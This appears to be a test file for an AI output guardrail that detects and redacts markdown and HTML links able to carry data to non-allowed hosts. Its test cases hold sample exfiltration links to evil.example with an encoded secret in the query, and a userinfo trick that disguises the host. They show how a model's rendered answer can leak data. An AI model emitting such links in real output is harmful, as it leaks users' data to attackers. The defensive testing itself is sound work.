@@ -1,0 +1,43 @@
+"""Links that could carry data away are found, and those to allowed hosts are left."""
+
+import pytest
+
+from config.catalog import GuardFacts
+from guardrails.gate import Segment
+from guardrails.guards.links import GUARD
+
+GUARDING = GUARD.build(GuardFacts("links", "links", hosts=("docs.acme.example", "*.cdn.example")))
+DATA = "c2VjcmV0cyBhbmQgbW9yZSBzZWNyZXRz"
+
+
+def found(text: str) -> list[tuple[str, str]]:
+    raw = text.encode()
+    return [
+        (each.kind, raw[each.start : each.end].decode()) for each in GUARDING.inspect(Segment("output", raw))
+    ]
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("![x](https://evil.example/a.png)", [("IMAGE_LINK", "https://evil.example/a.png")]),
+        (f"![](https://evil.example/?q={DATA}) and", [("IMAGE_LINK", f"https://evil.example/?q={DATA}")]),
+        ('<img src="http://evil.example/x">', [("IMAGE_LINK", "http://evil.example/x")]),
+        (f"[x](https://evil.example/?q={DATA})", [("LINK", f"https://evil.example/?q={DATA}")]),
+        (f"[a]: https://evil.example/{DATA}{DATA}", [("LINK", f"https://evil.example/{DATA}{DATA}")]),
+        ("![x](https://docs.acme.example/a.png)", []),
+        ("![x](https://a.cdn.example/a.png)", []),
+        ("![x](https://docs.acme.example@evil.example/a)", [("IMAGE_LINK", "https://docs.acme.example@evil.example/a")]),
+        ("see [the page](https://wiki.example/Trains)", []),
+        ("https://evil.example/a.png", []),
+        ("![x](a.png)", []),
+    ],
+)  # fmt: skip
+def test_what_carries_data_away(text: str, expected: list[tuple[str, str]]) -> None:
+    assert found(text) == expected
+
+
+def test_it_stands_where_answers_come_out() -> None:
+    assert GUARDING.stages == {"output"} and {
+        each.action for each in GUARDING.inspect(Segment("output", b"![x](https://evil.example/a.png)"))
+    } == {"redact"}
